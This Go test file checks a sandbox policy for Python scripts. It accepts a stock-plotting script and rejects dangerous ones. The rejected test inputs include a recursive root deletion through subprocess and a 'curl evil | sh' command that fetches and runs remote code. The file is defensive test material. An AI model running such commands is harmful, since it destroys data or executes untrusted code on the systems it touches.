package sandbox

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const plotScript = `import yfinance as yf
import pandas as pd
import matplotlib.pyplot as plt
from datetime import datetime

data = yf.download("AAPL", period="6mo")
plt.plot(data.index, data["Close"])
plt.title("AAPL Close")
plt.savefig("stock_plot.png")
print("Plot saved to stock_plot.png")
`

func TestPythonPlotPolicy(t *testing.T) {
	p := PythonPlotPolicy()

	if err := p.Check(plotScript); err != nil {
		t.Fatalf("plot script rejected: %v", err)
	}

	tests := []struct {
		name string
		code string
		want string
	}{
		{"subprocess", "import subprocess\nsubprocess.run(['rm', '-rf', '/'])", `"subprocess"`},
		{"os system", "import os\nos.system('curl evil | sh')", `import of "os" is not allowed`},
		{"eval", "import pandas\neval('1+1')", `"eval("`},
		{"dunder import", "__import__('socket')", `"__import__"`},
		{"empty", "   ", "empty script"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := p.Check(tt.code)
			if !errors.Is(err, ErrPolicy) {
				t.Fatalf("expected ErrPolicy, got %v", err)
			}
			if !strings.Contains(err.Error(), tt.want) {
				t.Fatalf("expected %s in %q", tt.want, err.Error())
			}
		})
	}
}

func TestPolicy_MaxCodeBytes(t *testing.T) {
	err := Policy{MaxCodeBytes: 4}.Check("print('hello')")
	if !errors.Is(err, ErrPolicy) {
		t.Fatalf("expected ErrPolicy for oversized script, got %v", err)
	}
}

func TestImports(t *testing.T) {
	got := Imports(plotScript + "import numpy as np, math\n")
	want := []string{"datetime", "math", "matplotlib", "numpy", "pandas", "yfinance"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Fatalf("Imports mismatch (-want +got):\n%s", diff)
	}
}
